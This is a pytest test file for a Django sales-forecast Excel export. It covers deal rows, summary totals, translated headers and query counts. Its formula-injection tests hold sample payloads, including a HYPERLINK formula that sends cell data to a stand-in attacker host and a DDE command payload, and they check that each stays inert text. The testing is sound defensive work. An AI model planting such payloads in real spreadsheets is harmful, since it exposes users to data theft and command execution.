"""The forecast workbook: one row per forecast deal, the rollup's numbers on the summary,
translated headers, and a number of queries that does not grow with the deals."""

import datetime
import io
import re
from decimal import Decimal

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import timezone, translation
from openpyxl import load_workbook

from forecasting import export
from forecasting.export import (
    EXPORT_CONTENT_TYPE,
    export_filename,
    forecast_workbook,
)
from forecasting.models import ForecastAdjustment, Quota
from forecasting.selectors import FORECAST_CATEGORIES, Node, forecast_rollup
from opportunities.models import Category, OpportunityPartner, Stage
from osp.fiscal import Period, fiscal_quarter, parse_period
from osp.models import User
from tests.factories import (
    AccountFactory,
    OpportunityFactory,
    PartnerFactory,
    TerritoryFactory,
    import_at,
)

HEADERS_EN = ["Owner", "Territory", "Account", "Opportunity", "Partner", "Stage", "Category",
              "Probability (%)", "Amount", "Currency", "Amount in USD", "Weighted amount",
              "Expected close", "Quarter", "Last stage change", "Next step"]
CJK = re.compile(r"[\u4e00-\u9fff]")


@pytest.fixture(autouse=True)
def _usd(settings):
    settings.OSP_BASE_CURRENCY = "USD"


def _deal(people, account, stage, amount, *, amount_base=None, currency="USD", close=None,
          name=None):
    opp = OpportunityFactory(
        account=account, amount=Decimal(amount), currency=currency,
        amount_base=Decimal(amount_base if amount_base is not None else amount),
        expected_close_date=close or timezone.localdate(),
        **({"name": name} if name else {}))
    if stage != "lead":
        import_at(opp, people.admin, stage)
    opp.refresh_from_db()
    return opp


def _export(user, node, period=None):
    out = io.BytesIO()
    rows = forecast_workbook(user=user, node=node, period=period or parse_period(None), out=out)
    out.seek(0)
    return rows, load_workbook(out)


def _rows(sheet):
    return [list(row) for row in sheet.iter_rows(values_only=True)]


def _by_label(sheet) -> dict:
    return {row[0]: row for row in sheet.iter_rows(values_only=True) if row and row[0]}


@pytest.fixture
def book(people, deals):
    """rep_a's forecast deals in the current quarter (deals' own opportunities are leads)."""
    territory = TerritoryFactory(name="North")
    account = AccountFactory(name="Gamma Insurance", owner=people.rep_a, territory=territory)
    reseller = PartnerFactory(name="Acme Resellers", owner=people.admin)
    integrator = PartnerFactory(name="Bolt Integrators", owner=people.admin)
    s3 = _deal(people, account, "3", "1000", amount_base="1100", currency="EUR",
               name="Pipeline deal")
    OpportunityPartner.objects.create(opportunity=s3, partner=integrator, role="integrator")
    OpportunityPartner.objects.create(opportunity=s3, partner=reseller, role="reseller")
    OpportunityPartner.objects.create(opportunity=s3, partner=reseller, role="influencer")
    s6 = _deal(people, account, "6", "2000", name="Best case deal")
    s7 = _deal(people, deals.account_a, "7", "3000", name="Commit deal")
    s10 = _deal(people, account, "10", "4000", name="Booked deal")
    # Not in the forecast: a lead, and an open deal closing after the quarter.
    _deal(people, account, "lead", "5000", name="Just a lead")
    quarter = fiscal_quarter()
    _deal(people, account, "6", "6000", name="Next quarter",
          close=quarter.end + datetime.timedelta(days=1))
    # rep_b's deal: in manager_b's team, not manager_a's.
    _deal(people, deals.account_b, "7", "7000", name="Other team")
    return {"3": s3, "6": s6, "7": s7, "10": s10}


def test_filename_and_content_type(people):
    period = Period("FY2027 Q1", datetime.date(2026, 1, 1), datetime.date(2026, 3, 31))
    node = Node("user", people.rep_a)
    assert export_filename(node, period) == f"forecast-user-{people.rep_a.pk}-FY2027-Q1.xlsx"
    assert export_filename(node, Period("FY2027", period.start, period.end)).endswith(
        "-FY2027.xlsx")
    assert EXPORT_CONTENT_TYPE.endswith("spreadsheetml.sheet")


def test_forecast_sheet_has_one_row_per_forecast_deal(people, book):
    with translation.override("en"):
        count, workbook = _export(people.manager_a, Node("user", people.manager_a))
    assert count == 4
    assert workbook.sheetnames == ["Forecast", "Summary"]
    rows = _rows(workbook["Forecast"])
    assert rows[0] == HEADERS_EN
    assert len(rows) == 1 + 4
    by_name = {row[3]: dict(zip(HEADERS_EN, row, strict=True)) for row in rows[1:]}
    assert set(by_name) == {"Pipeline deal", "Best case deal", "Commit deal", "Booked deal"}

    today = timezone.localdate()
    pipeline = by_name["Pipeline deal"]
    assert pipeline["Owner"] == str(people.rep_a)
    assert pipeline["Territory"] == "North"
    assert pipeline["Account"] == "Gamma Insurance"
    assert pipeline["Partner"] == "Acme Resellers, Bolt Integrators"
    assert pipeline["Stage"] == str(Stage("3").label)
    assert pipeline["Category"] == "Pipeline"
    assert pipeline["Probability (%)"] == 20
    assert pipeline["Amount"] == 1000
    assert pipeline["Currency"] == "EUR"
    assert pipeline["Amount in USD"] == 1100
    assert pipeline["Weighted amount"] == pytest.approx(220)
    assert pipeline["Expected close"].date() == today  # a real date cell
    assert pipeline["Quarter"] == str(fiscal_quarter(today))
    assert pipeline["Last stage change"].date() == timezone.localdate(
        book["3"].stage_entered_at)
    assert pipeline["Next step"] in ("", None)

    assert by_name["Commit deal"]["Territory"] in ("", None)
    assert by_name["Commit deal"]["Account"] == "Alpha Bank"
    assert by_name["Commit deal"]["Partner"] in ("", None)
    expected = {"Best case deal": ("6", "Best case", 60, 2000),
                "Commit deal": ("7", "Commit", 80, 3000),
                "Booked deal": ("10", "Booked", 100, 4000)}
    for name, (stage, category, probability, amount) in expected.items():
        row = by_name[name]
        assert row["Stage"] == str(Stage(stage).label)
        assert row["Category"] == category
        assert row["Probability (%)"] == probability
        assert row["Amount"] == amount and row["Amount in USD"] == amount
        assert row["Weighted amount"] == pytest.approx(amount * probability / 100)


def test_rows_follow_visibility_and_node(people, book):
    count, workbook = _export(people.rep_b, Node("user", people.rep_b))
    assert count == 1
    assert [row[3] for row in _rows(workbook["Forecast"])[1:]] == ["Other team"]
    count, _ = _export(people.director, Node("user", people.director))
    assert count == 5
    count, _ = _export(people.admin, Node("account", book["3"].account))
    assert count == 3


def test_summary_matches_the_rollup(people, book):
    quarter = fiscal_quarter()
    Quota.objects.create(user=people.rep_a, fiscal_year=quarter.year, quarter=quarter.quarter,
                         amount=Decimal("8000"))
    ForecastAdjustment.objects.create(subject=people.rep_a, manager=people.manager_a,
                                      period=str(quarter), category=Category.COMMIT,
                                      amount=Decimal("9000"), note="Gut feeling")
    node = Node("user", people.manager_a)
    with translation.override("en"):
        _, workbook = _export(people.manager_a, node)
        rollup = forecast_rollup(user=people.manager_a, node=node, period=parse_period(None))
        labels = {c: str(Category(c).label) for c in FORECAST_CATEGORIES}
    summary = _by_label(workbook["Summary"])
    for category in FORECAST_CATEGORIES:
        cell = rollup.categories[category]
        _label, count, amount, weighted = summary[labels[category]][:4]
        assert count == cell.count
        assert amount == pytest.approx(float(cell.amount))
        assert weighted == pytest.approx(float(cell.weighted))
    assert summary["Pipeline"][1:4] == (1, 1100, pytest.approx(220))
    assert summary["Booked"][1:3] == (1, 4000)
    total = summary["Total"]
    assert total[1] == sum(c.count for c in rollup.categories.values()) == 4
    assert total[2] == pytest.approx(float(sum(c.amount for c in rollup.categories.values())))
    assert total[3] == pytest.approx(float(rollup.weighted_pipeline))

    assert summary["Quota"][2] == 8000
    assert summary["Attainment (booked) %"][2] == rollup.attainment(rollup.booked) == 50
    assert summary["Attainment (won + booked) %"][2] == rollup.attainment(
        rollup.won_and_booked)
    rep = summary[str(people.rep_a)]
    header = summary["Rep"]
    rep_row = dict(zip(header, rep, strict=False))
    assert rep_row["Commit"] == 3000
    assert rep_row["Best case"] == 2000
    assert rep_row["Adjusted commit"] == 9000
    assert rep_row["Adjusted best case"] is None


def test_summary_without_quota_or_reps(people, book):
    _, workbook = _export(people.admin, Node("account", book["3"].account))
    summary = _by_label(workbook["Summary"])
    assert "Total" in summary and summary["Total"][1] == 3
    assert "Quota" not in summary and "Rep" not in summary


def test_headers_are_translated(people, book):
    with translation.override("en"):
        _, english = _export(people.manager_a, Node("user", people.manager_a))
    with translation.override("zh-hans"):
        count, chinese = _export(people.manager_a, Node("user", people.manager_a))
        expected = [translation.gettext(h) for h in HEADERS_EN[:10]]
    assert _rows(english["Forecast"])[0] == HEADERS_EN
    assert count == 4
    zh_headers = _rows(chinese.worksheets[0])[0]
    assert zh_headers[:10] == expected
    assert zh_headers != HEADERS_EN
    assert any(CJK.search(h) for h in zh_headers)
    # Stage labels come from the catalogue too.
    stages = {row[5] for row in _rows(chinese.worksheets[0])[1:]}
    assert any(CJK.search(s) for s in stages)


def test_rows_across_chunks(people, book, monkeypatch):
    monkeypatch.setattr(export, "CHUNK_SIZE", 3)
    account = book["3"].account
    for i in range(5):
        _deal(people, account, "7", "100", name=f"More {i}")
    count, workbook = _export(people.manager_a, Node("user", people.manager_a))
    rows = _rows(workbook["Forecast"])[1:]
    assert count == len(rows) == 9
    assert len({row[3] for row in rows}) == 9
    assert [row[4] for row in rows if row[3] == "Pipeline deal"] == [
        "Acme Resellers, Bolt Integrators"]


def _grow(people, account, partner, n):
    for _ in range(n):
        opp = _deal(people, account, "6", "500")
        OpportunityPartner.objects.create(opportunity=opp, partner=partner, role="reseller")


def test_queries_do_not_grow_with_rows(people):
    account = AccountFactory(owner=people.rep_a, territory=TerritoryFactory())
    partner = PartnerFactory(owner=people.admin)

    def count_queries():
        user = User.objects.get(pk=people.manager_a.pk)  # fresh: access caches on the user
        with CaptureQueriesContext(connection) as ctx:
            rows, _ = _export(user, Node("user", user))
        return rows, len(ctx.captured_queries)

    _grow(people, account, partner, 3)
    small_rows, small = count_queries()
    _grow(people, account, partner, 27)
    large_rows, large = count_queries()
    assert (small_rows, large_rows) == (3, 30)
    assert large == small, f"{small} queries for 3 rows, {large} for 30"
    assert large <= 15


# A deal, account or next step written by anyone must reach the spreadsheet as the text
# it is, never as a live formula (issue 15: "=HYPERLINK(...)" became a link).
FORMULAS = ['=HYPERLINK("https://evil.example/?d="&A2,"Open")', "+1+cmd|' /C calc'!A0",
            "-2+3", "@SUM(A1:A9)", "\tTab first", "\rCarriage return first", "#N/A"]


def _cells(workbook):
    return [cell for row in workbook["Forecast"].iter_rows(min_row=2) for cell in row]


@pytest.mark.parametrize("text", FORMULAS)
def test_texts_that_look_like_formulas_stay_text(people, text):
    territory = TerritoryFactory(name=text)
    account = AccountFactory(name=text, owner=people.rep_a, territory=territory)
    deal = _deal(people, account, "7", "3000", name=text)
    type(deal).objects.filter(pk=deal.pk).update(next_step=text)
    _count, workbook = _export(people.manager_a, Node("user", people.manager_a))
    by_header = dict(zip(HEADERS_EN, next(workbook["Forecast"].iter_rows(min_row=2)),
                         strict=True))
    for header in ("Territory", "Account", "Opportunity", "Next step"):
        cell = by_header[header]
        # Shown as entered (XML reads a carriage return back as a line feed).
        assert cell.value == text.replace("\r", "\n"), header
        assert cell.data_type == "s", header  # a string, not a formula ("f") or error
        assert cell.quotePrefix == text.startswith(("=", "+", "-", "@", "\t", "\r")), header
    assert not [c.coordinate for c in _cells(workbook) if c.data_type == "f"]


def test_a_named_rep_or_node_that_looks_like_a_formula_stays_text(people):
    people.rep_a.first_name, people.rep_a.last_name = "=1+1", ""
    people.rep_a.save()
    account = AccountFactory(owner=people.rep_a)
    _deal(people, account, "7", "3000")
    _count, workbook = _export(people.manager_a, Node("user", people.manager_a))
    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]
    assert "=1+1" in [c.value for c in cells]
    assert not [c.coordinate for c in cells if c.data_type == "f"]


def test_control_characters_a_spreadsheet_cannot_hold_are_left_out(people):
    account = AccountFactory(name="Gamma\x0bInsurance", owner=people.rep_a)
    _deal(people, account, "7", "3000", name="Deal\x1b one")
    _count, workbook = _export(people.manager_a, Node("user", people.manager_a))
    values = [c.value for c in _cells(workbook)]
    assert "GammaInsurance" in values and "Deal one" in values
